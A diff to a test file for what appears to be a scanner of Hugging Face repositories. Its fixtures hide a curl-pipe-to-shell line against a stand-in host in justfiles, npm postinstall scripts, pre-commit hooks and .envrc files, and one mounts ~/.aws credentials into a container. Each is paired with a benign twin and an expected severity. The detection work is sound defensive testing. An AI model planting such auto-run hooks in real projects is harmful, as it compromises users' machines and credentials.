@@ -42,6 +42,23 @@ const CURL_SH = 'curl -fsSL https://x.invalid/i.sh | sh';
 
 // [form, malicious files, its finding, legitimate twin, what the twin gets]
 const FORMS: [string, Files, Expect, Files, Expect][] = [
+  // ── project files a one-word command runs ──
+  ['just RECIPE (justfile)', { 'README.md': '```bash\njust setup\n```\n', justfile: `setup: deps\n    @echo setting up\n\ndeps:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\njust test\n```\n', justfile: `setup:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['npm install (package.json postinstall)', { 'README.md': '```bash\nnpm install\nnpm run demo\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: CURL_SH, demo: 'node demo.js' } }) }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\nnpm install\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { build: CURL_SH }, dependencies: { '@huggingface/transformers': '^3.1.0' } }) }, 'quiet'],
+  ['pre-commit run (hooks from an unknown repository)', { 'README.md': '```bash\npre-commit install\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/someone/ner-hooks\n    rev: v0.3.1\n    hooks:\n      - id: check-labels\n' }, ['instructions.install-from-url', 'high'],
+    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: trailing-whitespace\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.0\n    hooks:\n      - id: ruff\n' }, 'quiet'],
+  ['pre-commit local system hook', { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': `repos:\n  - repo: local\n    hooks:\n      - id: fetch\n        name: fetch\n        entry: bash -c '${CURL_SH}'\n        language: system\n` }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: local\n    hooks:\n      - id: pytest\n        name: pytest\n        entry: python -m pytest -q\n        language: system\n' }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['docker compose up (compose file mounting credentials)', { 'README.md': '```bash\ndocker compose up -d\n```\n', 'docker-compose.yml': 'services:\n  ner:\n    image: ghcr.io/someone/ner-server:latest\n    ports:\n      - "8080:8080"\n    volumes:\n      - ~/.aws:/root/.aws:ro\n' }, ['instructions.container', 'critical'],
+    { 'README.md': '```bash\ndocker compose up -d\n```\n', 'docker-compose.yml': 'services:\n  tgi:\n    image: ghcr.io/huggingface/text-generation-inference:3.0\n    volumes:\n      - ~/.cache/huggingface:/data\n    environment:\n      - MODEL_ID=org/m\n' }, 'quiet'],
+  ['direnv allow (.envrc)', { 'README.md': '```bash\ndirenv allow\n```\n', '.envrc': `export HF_HUB_ENABLE_HF_TRANSFER=1\n${CURL_SH}\n` }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\ndirenv allow\n```\n', '.envrc': 'export HF_HUB_ENABLE_HF_TRANSFER=1\nlayout python3\n' }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['diffusers custom_pipeline= another repository', { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained(\n    "org/m",\n    custom_pipeline="someone/fast-pipeline",\n)\n```\n' }, ['instructions.remote-code', 'high'],
+    { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="lpw_stable_diffusion")\npipe2 = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="pipelines/inpaint")\n```\n', 'pipelines/inpaint/pipeline.py': 'from diffusers import DiffusionPipeline\n' }, 'quiet'],
+  ['diffusers custom_pipeline= URL', { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\nURL = "https://raw.githubusercontent.com/someone/pipes/main/inpaint.py"\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline=URL)\n```\n' }, ['instructions.remote-code', 'high'],
+    { 'README.md': '```python\nfrom diffusers import DiffusionPipeline\npipe = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="./local_pipe")\n```\n' }, 'quiet'],
   // ── documents a user is pointed to ──
   ['other markdown (docs/setup.md)', { 'docs/setup.md': `# Setup\n\n\`\`\`bash\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/setup.md'],
     { 'docs/setup.md': '# Setup\n\n```bash\npip install -U transformers\n```\n' }, 'quiet'],
@@ -316,5 +333,28 @@ describe('the publisher\'s own sources', () => {
     const runs = found.filter((f) => f.check === 'instructions.run-binary');
     expect(runs.map((f) => f.severity)).toEqual(['high']);
     expect(runs[0]?.message).toContain('binary shipped in this repository');
+  });
+});
+
+test('pip install of this repository\'s own wheel from its Hub URL is graded as that archive, by the code check', () => {
+  const card = { 'README.md': '```bash\npip install https://huggingface.co/org/m/resolve/main/pkg-1.0-py3-none-any.whl\n```\n' };
+  const own = run({ ...card, 'pkg-1.0-py3-none-any.whl': new Uint8Array([0x50, 0x4b, 5, 6, ...new Array<number>(18).fill(0)]) }, { namespace: 'org', repo: 'org/m' } as PublisherFacts);
+  expect(own.filter((f) => f.check.startsWith('instructions.')).map((f) => f.check)).toEqual([]);
+  // The same URL naming a file this repository does not hold is an install from an unreviewed URL.
+  const other = run(card, { namespace: 'org', repo: 'org/m' } as PublisherFacts);
+  expect(other.map((f) => `${f.check} ${f.severity}`)).toContain('instructions.git-install high');
+});
+
+describe('a file named in a sentence is mentioned, not run', () => {
+  const HANDLER = 'from transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.pipeline = pipeline("token-classification", model=path)\n\n    def __call__(self, data):\n        return self.pipeline(data.pop("inputs", data))\n';
+  const check = (card: string): string[] =>
+    runContentChecks(repoOf({ 'README.md': card, 'handler.py': HANDLER })).filter((f) => f.check === 'instructions.run-repo-script').map((f) => f.severity);
+  test('`handler.py` in a sentence describing the repository is not an instruction to run it', () => {
+    expect(check('# NER endpoint\n\nThis repository implements a custom `handler.py` for Hugging Face Inference Endpoints.\n')).toEqual([]);
+  });
+  test('twins: `python handler.py` and `./handler.py` in a sentence, and a fenced `python handler.py`, still run it', () => {
+    expect(check('# NER endpoint\n\nTo try it, run `python handler.py` from this folder.\n')).toEqual(['medium']);
+    expect(check('# NER endpoint\n\nTo try it, run `./handler.py` from this folder.\n')).toEqual(['medium']);
+    expect(check('# NER endpoint\n\n```bash\npython handler.py\n```\n')).toEqual(['medium']);
   });
 });
